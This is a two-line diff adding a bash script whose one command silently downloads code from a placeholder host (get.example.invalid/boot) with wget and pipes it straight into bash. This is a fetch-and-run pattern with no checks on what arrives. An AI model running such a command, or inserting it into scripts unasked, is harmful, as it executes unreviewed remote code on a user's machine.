@@ -1,0 +1,2 @@
+#!/bin/bash
+"$(type -P bash)" <(wget -qO- https://get.example.invalid/boot)
